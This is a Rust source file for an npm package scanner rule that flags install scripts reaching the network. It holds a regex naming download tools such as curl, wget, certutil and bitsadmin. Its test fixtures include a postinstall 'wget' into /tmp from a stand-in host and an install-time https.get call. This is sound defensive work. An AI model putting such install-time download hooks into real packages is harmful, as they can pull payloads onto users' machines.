//! Rule `install-script-network`.

use crate::model::Severity;
use crate::package::{FileKind, Package};
use crate::rules::{Emitter, find_text};

crate::declare_rule! {
    /// A lifecycle script fetches something from the network: curl, wget, PowerShell web
    /// cmdlets, certutil or bitsadmin in the command, or network APIs in the JavaScript the
    /// script runs. Binary downloaders (esbuild, puppeteer) do this legitimately, so JavaScript
    /// network use at install time is `medium`; a downloader in the command itself is `high`.
    id: "install-script-network",
    category: Install,
    severity: High,
    capability: Some(crate::model::Capability::Network),
    title: "install script reaches the network",
    incident: "ua-parser-js 0.7.29 preinstall downloaded a miner with curl/wget/certutil (2021)",
    case_file: "package.json",
    flag: [r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"wget -q http://cdn.example.net/x -O /tmp/x"}}"#,
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"install\":\"node i.js\"}}\n=== i.js\nconst https = require('https'); https.get('https://h.example/x');"],
    pass: [r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node -e \"console.log('thanks')\""}}"#,
           "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"install\":\"node i.js\"}}\n=== i.js\nconsole.log('hello')\n=== lib.js\nrequire('https').get('https://h.example/')"],
}

const NET_MODULES: &[&str] = &[
    "http",
    "https",
    "net",
    "dgram",
    "tls",
    "http2",
    "node-fetch",
    "axios",
    "got",
    "undici",
    "request",
    "ws",
    "socket.io-client",
];

fn check(pkg: &Package, out: &mut Emitter) {
    for f in pkg.files.iter().filter(|f| pkg.is_install_file(f)) {
        if matches!(f.kind, FileKind::Shell) {
            let re = crate::regex!(
                r"(?i)\b(curl|wget|invoke-webrequest|iwr|irm|invoke-restmethod|certutil(\.exe)?\s+-urlcache|bitsadmin|downloadstring|downloadfile|net\.webclient)\b"
            );
            if let Some((off, m)) = find_text(f, re).into_iter().next() {
                out.hit_sev(
                    Severity::High,
                    pkg,
                    f,
                    off,
                    format!("the install script downloads with `{m}`"),
                );
            }
        }
        if let Some(js) = &f.js {
            let net_mod = js
                .modules
                .iter()
                .find(|(m, _)| NET_MODULES.contains(&m.as_str()));
            let net_call = js
                .calls
                .iter()
                .find(|c| matches!(c.path.as_str(), "fetch" | "XMLHttpRequest" | "WebSocket"));
            let hit = net_mod
                .map(|(m, o)| (m.clone(), *o))
                .or_else(|| net_call.map(|c| (c.path.clone(), c.off)));
            if let Some((what, off)) = hit {
                out.hit_sev(
                    Severity::Medium,
                    pkg,
                    f,
                    off,
                    format!("code run at install time uses the network ({what})"),
                );
            }
        }
    }
}
